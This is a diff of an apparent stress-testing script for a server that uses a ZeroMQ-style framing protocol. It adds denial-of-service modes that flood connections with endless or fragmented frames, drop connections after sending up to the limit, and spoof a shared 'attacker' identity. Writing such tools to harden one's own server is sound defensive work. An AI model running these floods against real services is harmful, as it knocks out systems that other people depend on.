@@ -26,10 +26,14 @@ def message(op, **keys):
     return frame(b"TRJD\x01" + bytes([op, 0, 0]) + msgpack.packb(keys))
 
 
-READY = frame(b"\x05READY\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER" + b"\x08Identity" + bytes(4), flags=4)
+def ready(identity=b""):
+    return frame(b"\x05READY\x0bSocket-Type\0\0\0\x06DEALER\x08Identity" + struct.pack(">I", len(identity)) + identity, flags=4)
 
 
-def connect(endpoint, timeout=5.0):
+READY = ready()
+
+
+def connect(endpoint, timeout=5.0, ready=READY):
     """Returns a socket on feed.sock (or tcp) after the handshake."""
     if endpoint.startswith("tcp://"):
         host, port = endpoint[6:].rsplit(":", 1)
@@ -40,7 +44,7 @@ def connect(endpoint, timeout=5.0):
         peer.connect(f"{endpoint}/feed.sock")
     peer.sendall(GREETING)
     receive(peer, 64)
-    peer.sendall(READY)
+    peer.sendall(ready)
     receive_frame(peer)
     return peer
 
@@ -75,8 +79,9 @@ def open_session(endpoint):
     return peer, attached
 
 
-def send_to_all(peers, data):
-    """Sends data to all peers again and again, and reads nothing. Ends when all of them are closed."""
+def send_to_all(peers, data, piece=None):
+    """Sends data to all peers again and again, at most `piece` bytes with a system call, and reads nothing. Ends when all of
+    them are closed."""
     selector = selectors.DefaultSelector()
     for peer in peers:
         peer.setblocking(False)
@@ -85,7 +90,7 @@ def send_to_all(peers, data):
         for key, _ in selector.select():
             try:
                 rest = key.data[0] or data  # a message that was sent in part goes on where it stopped
-                key.data[0] = rest[key.fileobj.send(rest):]
+                key.data[0] = rest[key.fileobj.send(rest[:piece]):]
             except BlockingIOError:
                 pass
             except OSError:
@@ -93,17 +98,45 @@ def send_to_all(peers, data):
                 key.fileobj.close()
 
 
-def endless(options):
-    """One message that never ends, of frames of `size` bytes, on each of `count` connections. Connects again where one was cut."""
-    data = frame(bytes(options.size), flags=1)
-    data *= max(1, 65536 // len(data)) if not options.trickle else 1
+def frames(options):
+    """Frames of `size` bytes on each of `count` connections, which have the flags `flags` in turn: 1 has a successor, so 0 is a
+    message, 10 one of two frames, and 1 one that never ends. Connects again where one was cut."""
+    data = b"".join(frame(bytes(options.size), flags=int(flag)) for flag in options.flags)
+    data *= max(1, 65536 // len(data)) if options.piece != len(data) else 1
     print("begun", flush=True)
     while True:
-        peers = []
+        sessions = []
         for _ in range(options.count):
-            with contextlib.suppress(OSError):
-                peers.append(connect(options.endpoint))
-        send_to_all(peers, data)
+            with contextlib.suppress(OSError, KeyError):  # KeyError: ERROR instead of WELCOME
+                sessions.append(open_session(options.endpoint) if options.session else (connect(options.endpoint), None))
+        send_to_all([peer for peer, _ in sessions], data, options.piece)
+        for _, attached in sessions:  # the sessions end, so there is room for others
+            if attached:
+                attached.close()
+
+
+def leave(options):
+    """Connections that send messages up to their limit, and end before the server has received them."""
+    data = frame(bytes(options.size)) * (16000 // (options.size + 128))
+    print("begun", flush=True)
+    while True:
+        with contextlib.suppress(OSError):
+            peer = connect(options.endpoint)
+            peer.sendall(data)
+            peer.close()
+
+
+def identity(options):
+    """Connections that all have the identity of the first one, and send messages until they are closed."""
+    print("begun", flush=True)
+    first = None
+    while True:
+        with contextlib.suppress(OSError):
+            peer = connect(options.endpoint, ready=ready(b"attacker"))
+            peer.sendall(frame(bytes(40)) * 90)
+            first = first or peer
+            if peer is not first:
+                peer.close()
 
 
 def open_sessions(options):
@@ -169,11 +202,13 @@ def is_open(peer):
 
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("attack", choices=("endless", "status", "hello", "descriptors"))
+    parser.add_argument("attack", choices=("frames", "leave", "identity", "status", "hello", "descriptors"))
     parser.add_argument("endpoint")
     parser.add_argument("--count", type=int, default=1)
     parser.add_argument("--size", type=int, default=0, help="bytes of a frame")
-    parser.add_argument("--trickle", action="store_true", help="one frame with each system call")
+    parser.add_argument("--flags", default="1", help="of the frames, in turn")
+    parser.add_argument("--piece", type=int, help="bytes with each system call")
+    parser.add_argument("--session", action="store_true", help="begin a session first")
     options = parser.parse_args()
     os.nice(19)
     globals()[options.attack](options)
